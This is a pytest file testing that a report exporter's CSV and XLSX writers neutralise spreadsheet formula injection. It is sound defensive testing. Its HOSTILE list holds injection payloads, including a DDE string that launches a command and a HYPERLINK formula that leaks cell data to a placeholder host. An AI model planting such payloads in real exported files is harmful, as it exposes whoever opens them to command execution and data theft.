import csv
import io
import zipfile
from datetime import UTC, date, datetime

import openpyxl
import pytest

from report.export import table_xlsx
from report.export.table_csv import Row, write_csv
from report.export.table_xlsx import write_xlsx

STARTS = [
    "=",
    "+",
    "-",
    "@",
    "|",
    "%",
    "＝",
    "＋",
    "－",
    "＠",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "\u3000=",
    "\xa0=",
]
HOSTILE = [
    *(f"{start}1+1" for start in STARTS),
    ";=1+1",
    ",=1+1",
    '"=1+1"',
    '"; =1+1',
    "'=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x/?"&A1)',
    "\x00=1+1",
    "\ud800=1+1",
    "\u202e=1+1",
    "\ufeff=1+1",
    "\x1b[31m=1+1",
    "a\n=1+1",
    "a\r=1+1",
    "a\x85=1+1",
    "a\u2028=1+1",
]
#: What no XML file may hold, and what turns text around.
FORBIDDEN = "\x00\x1b\ud800\u202e\ufffe\x85"


def as_csv(*rows: Row) -> list[list[str]]:
    text = "".join(write_csv(["甲", "乙"], rows))
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def as_xlsx(*rows: Row) -> tuple[openpyxl.Workbook, bytes]:
    target = io.BytesIO()
    write_xlsx(target, title="表/一", headings=["甲", "乙"], rows=rows)
    return openpyxl.load_workbook(io.BytesIO(target.getvalue())), target.getvalue()


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_of_a_csv_begins_as_a_formula(text: str) -> None:
    cell = as_csv([text, "x"])[1][0]

    begins = {cell[:1], cell.lstrip(' \u3000\xa0";,')[:1]}
    assert not begins & set("=+-@|%＝＋－＠")
    assert not set(cell) & set(FORBIDDEN + "\r\n\t\u2028")
    # Nothing else is lost.
    kept = "".join(letter for letter in text if letter not in FORBIDDEN + "\ufeff")
    assert cell.split() in (kept.split(), f"'{kept}".split())


@pytest.mark.parametrize("text", HOSTILE)
def test_a_row_of_a_csv_is_a_line_whatever_stands_in_it(text: str) -> None:
    written = "".join(write_csv(["甲", "乙"], [[text, text]]))

    assert written.count("\n") == written.count("\r") == 2
    assert len(as_csv([text, text])) == 2


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_of_a_workbook_is_a_formula_and_text_stays_as_it_is(text: str) -> None:
    book, body = as_xlsx([text, "x"])
    cell = book.active["A2"]

    assert (cell.data_type, cell.quotePrefix) == ("s", True)
    kept = "".join(letter for letter in text if letter not in FORBIDDEN + "\ufeff")
    assert cell.value.replace("_x000D_", "\r").replace("\r\n", "\n") == kept.replace("\r\n", "\n")
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
        names = archive.namelist()
    assert "<f>" not in sheet
    assert not [name for name in names if "external" in name.lower() or "vba" in name.lower()]


@pytest.mark.parametrize("text", ["", "工作动态", "a=b", "1-2", "2025-01-01", "(+1)", "a;b"])
def test_plain_text_stays_as_it_is_in_both(text: str) -> None:
    assert as_csv([text, "x"])[1][0] == text
    assert (as_xlsx([text, "x"])[0].active["A2"].value or "") == text


def test_zero_none_and_nothing_are_three_things() -> None:
    rows = [[0, "无"], [None, ""]]

    assert as_csv(*rows)[1:] == [["0", "无"], ["", ""]]
    page = as_xlsx(*rows)[0].active
    assert [[cell.value for cell in row] for row in page["A2:B3"]] == [[0, "无"], [None, None]]


def test_numbers_stay_numbers_and_moments_are_of_beijing() -> None:
    moment = datetime(2025, 12, 31, 16, 30, tzinfo=UTC)
    rows = [[-5, 3.5], [date(2025, 3, 1), moment], [True, False]]

    assert as_csv(*rows)[1:] == [
        ["-5", "3.5"],
        ["2025-03-01", "2026-01-01 00:30:00"],
        ["是", "否"],
    ]
    page = as_xlsx(*rows)[0].active
    assert [cell.value for cell in page["A2:B2"][0]] == [-5, 3.5]
    assert page["B3"].value == "2026-01-01 00:30:00"


def test_what_a_sheet_cannot_hold_is_told_in_its_last_row(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(table_xlsx, "MAX_ROWS", 4)
    fits = as_xlsx(["1", "x"], ["2", "x"])[0].active
    cut = as_xlsx(["1", "x"], ["2", "x"], ["3", "x"])[0].active

    assert [row[0].value for row in fits] == ["甲", "1", "2"]
    assert [row[0].value for row in cut] == ["甲", "1", "2", "表格只容得下这些行，其余请下载 CSV"]


def test_a_long_text_is_cut_where_a_cell_ends() -> None:
    assert len(as_xlsx(["长" * 40_000, "x"])[0].active["A2"].value) == 32_767


def test_a_column_is_as_wide_as_what_stands_in_it() -> None:
    page = as_xlsx(["工作动态栏目", "x" * 500], ["", 1])[0].active

    assert page.column_dimensions["A"].width == 14
    assert page.column_dimensions["B"].width == 60
